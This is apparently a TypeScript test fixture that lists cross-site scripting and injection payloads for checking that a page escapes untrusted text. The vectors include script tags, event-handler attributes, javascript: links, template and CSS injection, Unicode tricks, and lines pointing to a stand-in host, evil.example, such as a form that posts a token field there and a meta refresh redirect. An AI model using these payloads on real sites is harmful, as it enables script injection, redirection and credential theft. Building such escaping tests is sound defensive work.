/** Sets a global, and marks the element: the tests look for both. */
const RUN = "globalThis.hacked=1";

/**
 * Texts that would run a script, load something, or break out of their place if a page took them
 * for markup.
 */
export const PAYLOADS = [
  `<script data-hack>${RUN}</script>`,
  `<img data-hack src=x onerror="${RUN}">`,
  `<svg data-hack onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<a data-hack href="javascript:${RUN}">open</a>`,
  `javascript:${RUN}//`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} {${RUN}} <%= ${RUN} %>`,
  `[open](javascript:${RUN}) ![x](//evil.example/hack.png) <http://evil.example/hack>`,
  `</script><script data-hack>${RUN}</script>`,
  `</style><style data-hack>*{background:url(//evil.example/hack)}</style>`,
  `red;background:url(//evil.example/hack);--x:expression(${RUN})`,
  `data:text/html,<script data-hack>${RUN}</script>`,
  `" autofocus data-hack onfocus="${RUN}" x="`,
  `' data-hack onmouseover='${RUN}' style='position:fixed;inset:0`,
  `<iframe data-hack srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<math data-hack><mtext><table><mglyph><style><img src onerror="${RUN}"></style></mglyph></table>`,
  `<details data-hack open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<form data-hack action="//evil.example/hack"><input name=token><button>Go</button></form>`,
  `<base data-hack href="//evil.example/"><meta data-hack http-equiv=refresh content="0;url=//evil.example/hack">`,
  `\u202Etpircs\u202C \u2066\u200B\uFEFF\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E \u0000\u001B[2J`,
  `__proto__ constructor <template data-hack><slot onslotchange="${RUN}"></slot></template> &lt;img src=x onerror=${RUN}&gt;`,
] as const;
